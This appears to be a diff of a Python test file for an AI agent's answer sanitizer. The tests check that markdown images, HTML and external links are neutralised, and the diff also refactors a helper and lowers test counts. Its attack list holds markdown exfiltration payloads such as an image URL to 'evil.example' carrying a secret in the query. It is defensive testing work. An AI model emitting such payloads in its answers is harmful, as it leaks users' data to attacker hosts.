@@ -8,39 +8,13 @@ from typing import Any
 import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
-from markdown_it import MarkdownIt
+from tests.agents.rendering import KNOWN, loaded
 
 from pierian.agents.answering import account, asked, ended, harmless, labels_of, sources, untouched
 from pierian.agents.plan import Agent, Call, Extract, Plan, to_dicts
 from pierian.agents.progress import Progress
 from pierian.events import PlanMade, StepFailed, StepFinished, StepSkipped
 from pierian.provenance import USER, external
-
-KNOWN = "https://good.example/page"
-PARSERS = [
-    MarkdownIt("commonmark"),
-    MarkdownIt("commonmark", {"html": False}),
-    MarkdownIt("js-default", {"html": True}),
-    MarkdownIt("commonmark").enable(["table", "strikethrough"]),
-]
-for parser in PARSERS:
-    parser.validateLink = lambda url: True  # other renderers do not refuse `javascript:`
-
-
-def loaded(text: str) -> list[str]:
-    """Everything that a renderer would load, run or link to, apart from what is known."""
-    found: list[str] = []
-    for parser in PARSERS:
-        left: list[Any] = [*parser.parse(text)]
-        while left:
-            token = left.pop()
-            left += token.children or ()
-            if token.type in ("image", "html_block", "html_inline"):
-                found.append(f"{token.type}: {token.content}")
-            elif token.type == "link_open" and str(token.attrs["href"]).rstrip("/") != KNOWN:
-                found.append(str(token.attrs["href"]))
-    return found
-
 
 ATTACKS = [
     "![x](http://evil.example/?q=secret)",
@@ -111,7 +85,14 @@ ATTACKS = [
 
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_nothing_is_loaded_and_nothing_links_elsewhere(attack: str) -> None:
-    for text in (attack, f"Hello\n{attack}", f"{attack}\n\n{attack}", f"- {attack}", f"`{attack}`", f"[a]({attack})"):
+    for text in (
+        attack,
+        f"Hello\n{attack}",
+        f"{attack}\n\n{attack}",
+        f"- {attack}",
+        f"`{attack}`",
+        f"[a]({attack})",
+    ):
         assert loaded(harmless(text, {KNOWN})) == [], harmless(text, {KNOWN})
 
 
@@ -123,7 +104,7 @@ PIECES = [
 ]  # fmt: skip
 
 
-@settings(max_examples=1_500)
+@settings(max_examples=500)
 @given(text=st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
 @example(text="![](http://evil.example)")
 def test_however_marks_are_put_together_nothing_is_loaded(text: str) -> None:
@@ -134,7 +115,7 @@ def test_however_marks_are_put_together_nothing_is_loaded(text: str) -> None:
     assert loaded(harmless(f"{text}\n", {KNOWN})) == []
 
 
-@settings(max_examples=200)
+@settings(max_examples=100)
 @given(text=st.text(alphabet=st.characters(codec="utf-8"), max_size=80))
 def test_any_text_stays_readable(text: str) -> None:
     assert loaded(harmless(text, ())) == []
@@ -165,7 +146,10 @@ def test_an_ordinary_answer_is_left_as_it_is(text: str) -> None:
         ("Read [the news](http://e.example/x) now", "Read the news (`http://e.example/x`) now"),
         ("Read http://e.example/x.", "Read `http://e.example/x`."),
         ("Read <http://e.example/x>", "Read `http://e.example/x`"),
-        (f"[the page]({KNOWN}/) is [yours](HTTPS://good.example/PAGE)", f"[the page](<{KNOWN}/>) is [yours](<HTTPS://good.example/PAGE>)"),
+        (
+            f"[the page]({KNOWN}/) is [yours](HTTPS://good.example/PAGE)",
+            f"[the page](<{KNOWN}/>) is [yours](<HTTPS://good.example/PAGE>)",
+        ),
         ("a <b>bold</b> word", "a &lt;b>bold&lt;/b> word"),
         ("https://good.example/page('@evil.example", "`https://good.example/page('@evil.example`"),
         (f"{KNOWN}?q=secret", f"`{KNOWN}?q=secret`"),
